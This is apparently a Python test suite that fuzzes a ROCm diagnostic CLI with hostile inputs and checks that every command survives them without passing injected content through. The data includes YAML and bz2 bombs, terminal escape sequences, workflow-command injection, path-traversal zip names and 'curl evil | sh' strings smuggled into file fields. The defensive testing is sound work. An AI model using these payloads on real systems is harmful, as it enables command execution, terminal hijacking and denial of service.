"""Every input of the attack list, as it was written then, through the command line.

No run may raise, end with 4, or print what steers its reader; where time was the defect, none may take ten seconds of it.
"""

from __future__ import annotations

import bz2
import gzip
import json
import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from test_bounded import zipped

from rocm_doctor.cli import cli

ROOT = Path(__file__).resolve().parent.parent
SECONDS = 10.0
OSC = "\x1b]0;owned\x07\x1b]52;c;ZWNobw==\x07\x1b[2J\x9b31m\x08\x1bc\u202e"
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
DIGITS = "9" * 5000
SURROGATE = '{"torch_version": "2.5.0+rocm6.2", "gpu_name": "AMD Radeon \\ud83d", "python_version": "3.12"}'
LISTING = "crw-rw---- 1 root render;curl${IFS}evil|sh; 510, 0 Nov 20 10:00 /dev/kfd\nUnable to open /dev/kfd read-write: Permission denied\n"
COMPOSE = 'services:\n  a:\n    image: "rocm/pytorch; curl evil | sh #"\n    command: python train.py\n'
SERVICE = f"services:\n  {'a' * 85} ::stop-commands::x9 ##[add-mask]x:\n    image: nvidia/cuda:12.1\n    runtime: nvidia\n"
FORMATS = ("text", "json", "markdown", "github", "html", "junit", "sarif")

Files = dict[str, str | bytes]


LARGE = ("A6 duplicate keys", "B6 short lines", "B6 variables", "B6 packages", "B7 quoted lines")
"""Inputs whose time was the defect."""


def invoked(*arguments: str | Path) -> Result:
    """The result of one command, which raised nothing and did not end with 4."""
    done = CliRunner().invoke(cli, [str(a) for a in arguments])
    assert isinstance(done.exception, SystemExit | None), (arguments, done.exception)
    assert done.exit_code in (0, 1, 2, 3), (arguments, done.output[-400:])
    return done


def written(folder: Path, files: Files) -> Path:
    folder.mkdir(exist_ok=True)
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode("utf-8"))
    return folder


REPOSITORIES: dict[str, Files] = {
    "A1 deep YAML": dict.fromkeys(("train.yaml", ".github/workflows/x.yml", "compose.yaml", "environment.yml", "rocm-doctor.yaml"), "[" * 25_000),
    "A2 dotted keys": {"pyproject.toml": "a." * 40_000 + "a = 1\n", "uv.lock": "[" + "a." * 100_000 + "a]\n"},
    "A3 a big integer": {"pyproject.toml": f"a = {DIGITS}\n"},
    "A6 duplicate keys": {"train.yaml": "a: 1\n" * 100_000, "x.bat": "set A=%A%%A%\r\n" * 30_000},
    "C1 a notebook with half an emoji": {"x.ipynb": '{"cells": [{"cell_type": "code", "source": ["!pip install torch \\ud83d"]}]}'},
    "D1 an image that is a command": {"compose.yaml": COMPOSE},
    "D3 a service that is a workflow command": {"compose.yaml": SERVICE},
}  # fmt: skip


@pytest.mark.parametrize("name", [name for name in REPOSITORIES if name not in LARGE])
def test_a_repository(name: str, tmp_path: Path) -> None:
    folder = written(tmp_path / "repo", REPOSITORIES[name])
    for style in ("text", "github", "json"):
        _harmless(invoked("lint", folder, "--gpu", "gfx1100", "--format", style).output)


def test_a7_padding_does_not_pass_the_gate(tmp_path: Path) -> None:
    folder = written(tmp_path / "repo", {"requirements.txt": "torch==2.5.0+cu121\n" + "#" * (5 << 20)})
    assert invoked("lint", folder, "--gpu", "gfx1100", "--strict").exit_code in (1, 3)


INPUTS: dict[str, tuple[str, Callable[[], str | bytes]]] = {
    "B1 a bz2 bomb": ("x.zip", lambda: zipped("log/x", bytes(64 << 20), zipfile.ZIP_BZIP2)),
    "B1 a bz2 file": ("x.txt", lambda: bz2.compress(b"x" * 9999)),
    "B3 a nameless member": ("x.zip", lambda: zipped("", b"text")),
    "B4 two bytes of gzip": ("x.tar.gz", lambda: gzip.compress(b"")[:2]),
    "B5 a list that is not UTF-8": ("x.zip", lambda: zipped("artifacts.json", b'[{"name": "\xff"}]')),
    "B5 a list without a bottom": ("x.zip", lambda: zipped("artifacts.json", b'[{"a":' * 20_000)),
    "B6 short lines": ("x.zip", lambda: zipped("cmd/rocminfo", b"a\n" * (1 << 19))),
    "B6 variables": ("x.zip", lambda: zipped("env", "".join(f"V{n}=x\n" for n in range(40_000)).encode())),
    "B6 packages": ("x.zip", lambda: zipped("py/packages", "".join(f"p{n}==1.{n}\n" for n in range(40_000)).encode())),
    "B7 quoted lines": ("x.txt", lambda: "> " * (1 << 19)),
    "B8 site-packages": ("x.txt", lambda: "by_keyinclude-system-site-packages." * 1_700),
    "C1 half an emoji": ("x.txt", lambda: SURROGATE),
    "C2 an odd digit": ("x.txt", lambda: "HIP_VISIBLE_DEVICES=\u00b2\nROCR_VISIBLE_DEVICES=\u0661\nCUDA_VISIBLE_DEVICES=\u2460\n"),
    "C2 digits in packages": ("x.zip", lambda: zipped("py/packages", f"torch=={DIGITS}\n".encode())),
    "C2 digits of the driver": ("x.zip", lambda: zipped("sys/module/amdgpu/version", DIGITS.encode())),
    "C2 digits of ROCm": ("x.zip", lambda: zipped("opt/rocm/.info/version", f"{DIGITS}.1\n".encode())),
    "C2 digits of torch": ("x.zip", lambda: zipped("py/torch/version.py", f"__version__ = '{DIGITS}'\nhip = '{DIGITS}'\n".encode())),
    "C6 keys": ("x.txt", lambda: "APIKEY=" * 10_000),
    "C6 private keys": ("x.txt", lambda: "-----BEGIN PRIVATE KEY-----" * 5_000),
    "D1 a group that is a command": ("x.txt", lambda: "$ ls -l /dev/kfd\n" + LISTING),
    "D2 escapes in a tool's output": ("x.zip", lambda: zipped("cmd/rocminfo", f"{OSC}Agent 2\n  Name: gfx1100{OSC}\n".encode())),
    "D2 escapes in a pasted text": ("x.txt", lambda: f"torch{OSC} 2.5.0+rocm6.2\nRuntimeError: HIP error{OSC}: invalid device function\n"),
    "D3 workflow commands": ("x.txt", lambda: "RuntimeError: HIP error ##[add-mask]x: invalid device function\n::stop-commands::x9\n"),
}  # fmt: skip


@pytest.mark.parametrize("name", [name for name in INPUTS if name not in LARGE])
def test_an_input(name: str, tmp_path: Path) -> None:
    file, made = INPUTS[name]
    content = made()
    path = written(tmp_path / "in", {file: content}) / file
    for style in FORMATS if name.startswith(("C1", "D")) else ("text", "json"):
        _harmless(invoked("check", path, "--format", style).output)
    _harmless(invoked("probe", path, "--values").output)
    _harmless(invoked("diff", path, path).output)
    invoked("bundle", path, "-o", tmp_path / "out.zip")
    invoked("audit", path)


def _commands(name: str, folder: Path) -> list[tuple[str | Path, ...]]:
    if name in REPOSITORIES:
        return [("lint", written(folder / "repo", REPOSITORIES[name]), "--gpu", "gfx1100")]
    file, made = INPUTS[name]
    path = written(folder / "in", {file: made()}) / file
    checks = [("check", path), ("check", path, "--format", "json"), ("probe", path), ("diff", path, path)]
    return [*checks, ("bundle", path, "-o", folder / "out.zip")]


ODD_FILES: dict[str, str | bytes] = {
    "deep.json": "[" * 100_000, "bad.json": b'{"a": "\xff"}', "half.json": '"\\ud83d"', "digits.json": DIGITS, "deep.yaml": "[" * 25_000,
    "bomb.yaml": "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(f"b{n}: &b{n} [*{'a' if not n else f'b{n - 1}'}, *{'a' if not n else f'b{n - 1}'}]\n" for n in range(40)),
    "self.yaml": "a: &a [*a]\n",
}  # fmt: skip


@pytest.mark.parametrize("name", ODD_FILES)
def test_a_file_given_with_an_option(name: str, tmp_path: Path) -> None:
    """B5, C3: files of other kinds than a bundle."""
    path = written(tmp_path / "in", {name: ODD_FILES[name]}) / name
    capture = written(tmp_path / "capture", {"cmd/rocminfo": "Agent 2\n  Name: gfx1100\n"})
    for option in ("--baseline", "--overlay", "--matrix", "--log"):
        invoked("check", capture, option, path)
    invoked("fit", "--config", path)
    invoked("fit", "--model", path)
    invoked("diff", path, path)


@pytest.mark.parametrize(
    "arguments",
    [("lint", ".", "--rocm", DIGITS), ("lint", ".", "--python", DIGITS), ("plan", "--driver", DIGITS), ("fit", "--vram", DIGITS)],
    ids=lambda a: " ".join(a)[:20],
)
def test_c2_numbers_without_end_in_options(arguments: tuple[str, ...], tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert invoked(*arguments).exit_code == 2


def test_b9_names_of_members_do_not_leave_as_they_came(tmp_path: Path) -> None:
    names = ("sys/../../../tmp/x", "cmd/\x1b[2Jrocminfo", "log/a\n::error::b")
    with zipfile.ZipFile(tmp_path / "evil.zip", "w") as packed:
        for name in names:
            packed.writestr(name, "gfx1100\n")
    invoked("bundle", tmp_path / "evil.zip", "-o", tmp_path / "out.zip")
    for name in zipfile.ZipFile(tmp_path / "out.zip").namelist():
        assert ".." not in name.split("/")
        assert name.isprintable()


def _harmless(output: str) -> None:
    """Nothing that a terminal or a runner of workflows acts on, and no command that a stranger wrote."""
    assert not STEERING.search(output), STEERING.search(output)
    assert not re.search(r"^\s*::stop-commands|##\[add-mask", output, re.M)
    commands = re.findall(r"^\s*(?:\$|>) .*", output, re.M)
    if output.startswith("{"):
        commands += re.findall(r'"text": ?"((?:[^"\\]|\\.)*)"', json.dumps(json.loads(output)))
    assert not [line for line in commands if "evil" in line]
